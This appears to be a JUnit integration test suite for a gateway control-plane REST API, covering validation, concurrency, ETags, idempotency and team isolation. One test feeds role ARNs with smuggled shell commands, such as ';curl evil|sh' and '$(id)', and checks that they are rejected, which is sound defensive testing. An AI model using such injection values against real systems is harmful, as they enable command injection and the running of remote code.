package dev.agentcore.controlplane.gateway;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

import dev.agentcore.controlplane.support.Api;
import dev.agentcore.controlplane.support.Http;
import dev.agentcore.controlplane.support.TestIssuer;

import static dev.agentcore.controlplane.support.Fixtures.cognitoProfile;
import static dev.agentcore.controlplane.support.Fixtures.jwtGateway;
import static dev.agentcore.controlplane.support.Fixtures.lambdaTarget;
import static dev.agentcore.controlplane.support.Fixtures.openGateway;
import static dev.agentcore.controlplane.support.Fixtures.unique;
import static org.assertj.core.api.Assertions.assertThat;

/** The gateway endpoints of API.md through the real HTTP stack, on real PostgreSQL. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class GatewayApiIntegrationTests {

	static final String GATEWAYS = "/api/v1/gateways";

	@LocalServerPort
	int port;

	String team;

	Api api;

	@BeforeEach
	void setUp() {
		team = unique("team");
		api = Api.asTeam(port, team);
	}

	@Test
	void declaredGatewayIsAcceptedPendingWithLocationAndETag() {
		String name = unique("Orders");
		Http.Response created = api.post(GATEWAYS, openGateway(name));
		assertThat(created.status()).isEqualTo(202);
		JsonNode gateway = created.json();
		String id = gateway.get("id").asString();
		assertThat(created.header("Location")).hasValue(GATEWAYS + "/" + id);
		assertThat(created.header("ETag")).hasValue("\"0\"");
		assertThat(gateway.get("team").asString()).isEqualTo(team);
		assertThat(gateway.get("generation").asLong()).isEqualTo(1);
		assertThat(gateway.at("/status/phase").asString()).as("no provisioner runs here: honestly PENDING, never READY")
			.isEqualTo("PENDING");
		assertThat(gateway.at("/aws/gatewayId").isNull()).isTrue();
		assertThat(gateway.at("/status/observedGeneration").asLong()).isZero();
		assertThat(gateway.get("targetCount").asLong()).isZero();
		Http.Response read = api.get(GATEWAYS + "/" + id);
		assertThat(read.status()).isEqualTo(200);
		assertThat(read.json().get("name").asString()).isEqualTo(name);
		assertThat(read.header("ETag")).isPresent();
		assertThat(read.json().get("createdAt").asString()).isEqualTo(gateway.get("createdAt").asString());
	}

	@Test
	void everyViolationIsReportedAtOnce() {
		Http.Response response = api.post(GATEWAYS, """
				{"name": "has_underscore", "description": "%s", "roleArn": "arn:aws:iam::123:user/x",
				 "authorizer": {"type": "NONE"}, "protocol": {"instructions": "%s"}, "kmsKeyArn": "key"}"""
			.formatted("d".repeat(201), "i".repeat(2049)));
		assertThat(response.status()).isEqualTo(400);
		assertThat(response.json().get("code").asString()).isEqualTo("VALIDATION_FAILED");
		assertThat(fields(response)).containsExactlyInAnyOrder("name", "description", "roleArn",
				"protocol.instructions", "kmsKeyArn");
	}

	/** Issue #11, finding 5: a role ARN follows IAM's character rules, so nothing in it is shell syntax. */
	@Test
	void roleArnsFollowIamsRules() {
		for (String role : new String[] { "arn:aws:iam::123456789012:role/x;curl evil|sh", "arn:aws:iam::123456789012:role/$(id)",
				"arn:aws:iam::123456789012:role/a b", "arn:aws:iam::123456789012:role/x'y", "arn:aws:iam::123456789012:role/" }) {
			Http.Response refused = api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/AgentCoreGatewayRole", role));
			assertThat(refused.status()).as(role).isEqualTo(400);
			assertThat(fields(refused)).containsExactly("roleArn");
		}
		String pathed = "arn:aws:iam::123456789012:role/service-role/team_a/Gateway+Role=1,x.y@z-";
		assertThat(api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/AgentCoreGatewayRole", pathed))
			.status()).isEqualTo(202);
	}

	@Test
	void namesAreLimitedTo48CharactersAndRequired() {
		assertThat(fields(api.post(GATEWAYS, openGateway("a".repeat(49))))).contains("name");
		assertThat(api.post(GATEWAYS, openGateway("a".repeat(48))).status()).isEqualTo(202);
		assertThat(fields(api.post(GATEWAYS, "{\"roleArn\": \"arn:aws:iam::123456789012:role/x\", \"authorizer\": {\"type\": \"NONE\"}}")))
			.contains("name");
	}

	@Test
	void unknownPropertyIsRefusedByName() {
		Http.Response response = api.post(GATEWAYS, """
				{"name": "x", "roleArn": "arn:aws:iam::123456789012:role/x", "authorizer": {"type": "NONE", "audience": "a"}}""");
		assertThat(response.status()).isEqualTo(400);
		assertThat(response.json().get("code").asString()).isEqualTo("UNKNOWN_PROPERTY");
		assertThat(response.json().at("/errors/0/field").asString()).isEqualTo("authorizer.audience");
	}

	@Test
	void namesAreUniqueAcrossTeams() {
		String name = unique("Shared");
		assertThat(api.post(GATEWAYS, openGateway(name)).status()).isEqualTo(202);
		Http.Response second = Api.asTeam(port, unique("other")).post(GATEWAYS, openGateway(name));
		assertThat(second.status()).isEqualTo(409);
		assertThat(second.json().get("code").asString()).isEqualTo("NAME_TAKEN");
		Http.Response otherCase = Api.asTeam(port, unique("other")).post(GATEWAYS, openGateway(name.toLowerCase()));
		assertThat(otherCase.status()).as("a managed role trusts the lower-cased name: unique ignoring case").isEqualTo(409);
		assertThat(otherCase.json().get("code").asString()).isEqualTo("NAME_TAKEN");
	}

	@Test
	void concurrentPostsOfOneNameCreateExactlyOne() throws Exception {
		String name = unique("Race");
		List<Integer> statuses = concurrently(8, () -> api.post(GATEWAYS, openGateway(name)).status());
		assertThat(statuses).containsOnlyOnce(202);
		assertThat(statuses.stream().filter(status -> status == 409)).hasSize(7);
	}

	@Test
	void putNeedsIfMatchAndRefusesStaleVersions() {
		String id = create(unique("Etag"));
		String path = GATEWAYS + "/" + id;
		String body = openGateway(api.get(path).json().get("name").asString()).replace("test gateway", "changed");
		Http.Response missing = api.put(path, null, body);
		assertThat(missing.status()).isEqualTo(428);
		assertThat(missing.json().get("code").asString()).isEqualTo("PRECONDITION_REQUIRED");
		Http.Response stale = api.put(path, "\"7\"", body);
		assertThat(stale.status()).isEqualTo(412);
		assertThat(stale.json().get("code").asString()).isEqualTo("PRECONDITION_FAILED");
		Http.Response accepted = api.put(path, "\"0\"", body);
		assertThat(accepted.status()).isEqualTo(202);
		assertThat(accepted.json().get("generation").asLong()).isEqualTo(2);
		assertThat(accepted.json().get("description").asString()).isEqualTo("changed");
		assertThat(accepted.header("ETag")).hasValue("\"1\"");
	}

	@Test
	void concurrentPutsWithOneETagLetExactlyOneWin() throws Exception {
		String id = create(unique("PutRace"));
		String name = api.get(GATEWAYS + "/" + id).json().get("name").asString();
		List<Integer> statuses = concurrently(6, () -> api.put(GATEWAYS + "/" + id, "\"0\"",
				openGateway(name).replace("test gateway", "writer " + Thread.currentThread().threadId())).status());
		assertThat(statuses).containsOnlyOnce(202);
		assertThat(statuses).allMatch(status -> status == 202 || status == 412);
	}

	@Test
	void nameAndAuthorizerTypeCannotChange() {
		String name = unique("Fixed");
		String id = create(name);
		Http.Response renamed = api.put(GATEWAYS + "/" + id, "\"0\"", openGateway(name + "x"));
		assertThat(renamed.json().get("code").asString()).isEqualTo("NAME_IMMUTABLE");
		String profile = api.post("/api/v1/idp-profiles", cognitoProfile(unique("p"))).json().get("id").asString();
		Http.Response retyped = api.put(GATEWAYS + "/" + id, "\"0\"", jwtGateway(name, profile));
		assertThat(retyped.status()).isEqualTo(409);
		assertThat(retyped.json().get("code").asString()).isEqualTo("AUTHORIZER_TYPE_IMMUTABLE");
	}

	@Test
	void customJwtNeedsAProfileOfTheSameTeam() {
		String foreign = Api.asTeam(port, unique("other")).post("/api/v1/idp-profiles", cognitoProfile(unique("p")))
			.json()
			.get("id")
			.asString();
		Http.Response response = api.post(GATEWAYS, jwtGateway(unique("Jwt"), foreign));
		assertThat(response.status()).isEqualTo(400);
		assertThat(response.json().at("/errors/0/field").asString()).isEqualTo("authorizer.idpProfileId");
		String own = api.post("/api/v1/idp-profiles", cognitoProfile(unique("p"))).json().get("id").asString();
		assertThat(api.post(GATEWAYS, jwtGateway(unique("Jwt"), own)).status()).isEqualTo(202);
	}

	@Test
	void authenticateOnlyTakesAProfileAndOnlyJwtAuthorizersAdvertiseScopes() {
		String name = unique("AuthOnly");
		Http.Response withoutProfile = api.post(GATEWAYS, openGateway(name).replace("\"NONE\"", "\"AUTHENTICATE_ONLY\""));
		assertThat(fields(withoutProfile)).containsExactly("authorizer.idpProfileId");
		String profile = api.post("/api/v1/idp-profiles", cognitoProfile(unique("p"))).json().get("id").asString();
		Http.Response accepted = api.post(GATEWAYS, jwtGateway(name, profile).replace("CUSTOM_JWT", "AUTHENTICATE_ONLY"));
		assertThat(accepted.status()).isEqualTo(202);
		assertThat(accepted.json().at("/authorizer/type").asString()).isEqualTo("AUTHENTICATE_ONLY");
		Http.Response iamWithScopes = api.post(GATEWAYS, openGateway(unique("Iam")).replace("{\"type\": \"NONE\"}",
				"{\"type\": \"AWS_IAM\", \"advertisedScopeMapping\": {\"a\": \"b\"}}"));
		assertThat(fields(iamWithScopes)).containsExactly("authorizer.advertisedScopeMapping");
	}

	@Test
	void theNewMembersAreShownBackAndChangingThemIsANewGeneration() {
		String name = unique("Shown");
		String body = openGateway(name).replace("}}", """
				}, "protocol": {"sessionTimeoutSeconds": 1800, "responseStreaming": true, "listToolsPagination": false},
				 "interceptors": [{"lambdaArn": "arn:aws:lambda:us-east-1:123456789012:function:redact", "points": ["REQUEST", "RESPONSE"],
				   "excludeResponseBody": true}],
				 "policyEngine": {"arn": "arn:aws:bedrock-agentcore:us-east-1:123456789012:policy-engine/pe-a1b2c3d4e5", "mode": "LOG_ONLY"},
				 "tags": {"team": "payments"}}""");
		String id = api.post(GATEWAYS, body).json().get("id").asString();
		JsonNode shown = api.get(GATEWAYS + "/" + id).json();
		assertThat(shown.at("/protocol/sessionTimeoutSeconds").asInt()).isEqualTo(1800);
		assertThat(shown.at("/protocol/listToolsPagination").asBoolean(true)).isFalse();
		assertThat(shown.at("/interceptors/0/points/1").asString()).isEqualTo("RESPONSE");
		assertThat(shown.at("/policyEngine/mode").asString()).isEqualTo("LOG_ONLY");
		assertThat(shown.has("ownedMembers")).as("ownership is the server's bookkeeping, not part of the resource").isFalse();
		Http.Response retagged = api.put(GATEWAYS + "/" + id, "\"0\"", body.replace("\"payments\"", "\"billing\""));
		assertThat(retagged.json().get("generation").asLong()).isEqualTo(2);
		assertThat(retagged.json().at("/tags/team").asString()).isEqualTo("billing");
	}

	@Test
	void idempotencyKeyReplaysTheOriginalAnswerAndRefusesReuse() {
		String name = unique("Once");
		Map<String, String> key = Map.of("Idempotency-Key", unique("key"));
		Http.Response first = api.post(GATEWAYS, openGateway(name), key);
		Http.Response replay = api.post(GATEWAYS, openGateway(name), key);
		assertThat(first.status()).isEqualTo(202);
		assertThat(replay.status()).isEqualTo(202);
		assertThat(replay.json()).isEqualTo(first.json());
		assertThat(replay.header("Location")).isEqualTo(first.header("Location"));
		assertThat(api.get(GATEWAYS + "?name=" + name).json().get("items").size()).isEqualTo(1);
		Http.Response reused = api.post(GATEWAYS, openGateway(unique("Other")), key);
		assertThat(reused.status()).isEqualTo(422);
		assertThat(reused.json().get("code").asString()).isEqualTo("IDEMPOTENCY_KEY_REUSED");
		Http.Response otherTeam = Api.asTeam(port, unique("team")).post(GATEWAYS, openGateway(unique("Else")), key);
		assertThat(otherTeam.status()).as("keys are scoped to the team").isEqualTo(202);
	}

	@Test
	void otherTeamsSeeNothing() {
		String id = create(unique("Private"));
		Api stranger = Api.asTeam(port, unique("stranger"));
		String path = GATEWAYS + "/" + id;
		assertNotFound(stranger.get(path));
		assertNotFound(stranger.put(path, "\"0\"", openGateway("x")));
		assertNotFound(stranger.delete(path, "\"0\""));
		assertNotFound(stranger.post(path + "/reconcile", "{}"));
		assertNotFound(stranger.get(path + "/events"));
		assertNotFound(stranger.get(path + "/permissions"));
		assertNotFound(stranger.get(path + "/targets"));
		assertNotFound(stranger.post(path + "/targets", lambdaTarget("t")));
		assertThat(stranger.get(GATEWAYS).json().get("items").valueStream().map(g -> g.get("id").asString()))
			.doesNotContain(id);
		Api admin = Api.asAdmin(port);
		assertThat(admin.get(path).status()).isEqualTo(200);
		JsonNode filtered = admin.get(GATEWAYS + "?team=" + team).json().get("items");
		assertThat(filtered.valueStream().map(g -> g.get("id").asString())).containsExactly(id);
	}

	@Test
	void pagesNeitherSkipNorRepeatWhileRowsAreInserted() {
		List<String> created = new ArrayList<>();
		for (int i = 0; i < 5; i++) {
			created.add(create(unique("Page" + i)));
		}
		Set<String> seen = new HashSet<>();
		List<String> order = new ArrayList<>();
		String cursor = null;
		int pages = 0;
		do {
			JsonNode page = api.get(GATEWAYS + "?limit=2" + (cursor == null ? "" : "&cursor=" + cursor)).json();
			page.get("items").forEach(item -> {
				assertThat(seen.add(item.get("id").asString())).as("no repeats").isTrue();
				order.add(item.get("id").asString());
			});
			cursor = page.get("nextCursor").isNull() ? null : page.get("nextCursor").asString();
			if (pages++ == 0) {
				created.add(create(unique("Late")));
			}
		}
		while (cursor != null);
		assertThat(order).containsExactlyElementsOf(created);
	}

	@Test
	void listFiltersByPhaseAndName() {
		String name = unique("Filter");
		String id = create(name);
		assertThat(api.get(GATEWAYS + "?name=" + name).json().at("/items/0/id").asString()).isEqualTo(id);
		assertThat(api.get(GATEWAYS + "?phase=DELETING").json().get("items").size()).isZero();
		assertThat(api.get(GATEWAYS + "?limit=0").json().at("/errors/0/field").asString()).isEqualTo("limit");
		assertThat(api.get(GATEWAYS + "?limit=201").status()).isEqualTo(400);
		assertThat(api.get(GATEWAYS + "?cursor=not-a-cursor").json().at("/errors/0/field").asString()).isEqualTo("cursor");
		assertThat(api.get(GATEWAYS + "?phase=SLEEPING").status()).isEqualTo(400);
	}

	@Test
	void deleteRefusesAGatewayWithTargetsUnlessCascading() {
		String id = create(unique("WithTargets"));
		assertThat(api.post(GATEWAYS + "/" + id + "/targets", lambdaTarget("weather")).status()).isEqualTo(202);
		Http.Response refused = api.delete(GATEWAYS + "/" + id, "\"0\"");
		assertThat(refused.status()).isEqualTo(409);
		assertThat(refused.json().get("code").asString()).isEqualTo("GATEWAY_HAS_TARGETS");
		Http.Response cascaded = api.delete(GATEWAYS + "/" + id + "?cascade=true", "\"0\"");
		assertThat(cascaded.status()).isEqualTo(202);
		assertThat(cascaded.json().at("/status/phase").asString()).isEqualTo("DELETING");
		JsonNode events = api.get(GATEWAYS + "/" + id + "/events").json().get("items");
		assertThat(events.valueStream().map(event -> event.get("type").asString())).contains("DELETION_REQUESTED");
		Http.Response change = api.put(GATEWAYS + "/" + id, "\"1\"", openGateway("x"));
		assertThat(change.json().get("code").asString()).isEqualTo("GATEWAY_DELETING");
	}

	@Test
	void eventsRecordAcceptedChangesWithTheirActorNewestFirst() {
		String name = unique("History");
		String id = create(name);
		api.put(GATEWAYS + "/" + id, "\"0\"", openGateway(name).replace("test gateway", "v2"));
		api.post(GATEWAYS + "/" + id + "/reconcile", "");
		JsonNode events = api.get(GATEWAYS + "/" + id + "/events?limit=2").json();
		assertThat(events.get("items").size()).isEqualTo(2);
		JsonNode newest = events.at("/items/0");
		assertThat(newest.get("type").asString()).isIn("RECONCILE_REQUESTED", "PHASE_CHANGED", "AWS_CALL");
		assertThat(events.get("nextCursor").isNull()).isFalse();
		JsonNode all = api.get(GATEWAYS + "/" + id + "/events?limit=200").json().get("items");
		List<JsonNode> accepted = all.valueStream().filter(e -> e.get("type").asString().equals("SPEC_ACCEPTED")).toList();
		assertThat(accepted).hasSize(2);
		assertThat(accepted.get(0).get("actor").asString()).startsWith("user-");
		assertThat(accepted.get(0).get("id").asLong()).isGreaterThan(accepted.get(1).get("id").asLong());
	}

	@Test
	void permissionsAreComputedFromTheDeclaredTargets() {
		String id = create(unique("Perms"));
		api.post(GATEWAYS + "/" + id + "/targets", lambdaTarget("weather"));
		JsonNode plan = api.get(GATEWAYS + "/" + id + "/permissions").json();
		assertThat(plan.at("/executionRole/roleArn").asString()).isEqualTo("arn:aws:iam::123456789012:role/AgentCoreGatewayRole");
		assertThat(plan.at("/executionRole/permissionsPolicy/Statement/0/Resource").asString())
			.isEqualTo("arn:aws:lambda:us-east-1:123456789012:function:weather");
		assertThat(plan.at("/lambdaResourcePolicies/0/crossAccount").asBoolean()).isFalse();
		assertThat(plan.get("notes").size()).isPositive();
	}

	@Test
	void callerWithoutTeamCannotCreate() {
		String token = TestIssuer.get().sign(claims -> claims.audience(TestIssuer.AUDIENCE).claim("scope", "controlplane:write"));
		Http.Response response = Api.withToken(port, token).post(GATEWAYS, openGateway(unique("NoTeam")));
		assertThat(response.status()).isEqualTo(403);
		assertThat(response.json().get("code").asString()).isEqualTo("TEAM_UNKNOWN");
	}

	@Test
	void readScopeCannotChangeAnything() {
		Api reader = Api.withToken(port, TestIssuer.get().token(team, "controlplane:read"));
		assertThat(reader.post(GATEWAYS, openGateway(unique("Read"))).status()).isEqualTo(403);
		assertThat(reader.get(GATEWAYS).status()).isEqualTo(200);
	}

	@Test
	void oversizedBodyIs413() {
		Http.Response response = api.post(GATEWAYS, openGateway("big").replace("test gateway", "x".repeat(4 * 1024 * 1024)));
		assertThat(response.status()).isEqualTo(413);
		assertThat(response.json().get("code").asString()).isEqualTo("PAYLOAD_TOO_LARGE");
	}

	String create(String name) {
		Http.Response created = api.post(GATEWAYS, openGateway(name));
		assertThat(created.status()).as(created.body()).isEqualTo(202);
		return created.json().get("id").asString();
	}

	static List<String> fields(Http.Response response) {
		return response.json().get("errors").valueStream().map(error -> error.get("field").asString()).toList();
	}

	static void assertNotFound(Http.Response response) {
		assertThat(response.status()).as(response.body()).isEqualTo(404);
		assertThat(response.body()).doesNotContain("team");
	}

	static <T> List<T> concurrently(int threads, Callable<T> work) throws Exception {
		try (ExecutorService pool = Executors.newFixedThreadPool(threads)) {
			List<Future<T>> futures = new ArrayList<>();
			for (int i = 0; i < threads; i++) {
				futures.add(pool.submit(work));
			}
			List<T> results = new ArrayList<>();
			for (Future<T> future : futures) {
				results.add(future.get());
			}
			return results;
		}
	}

}
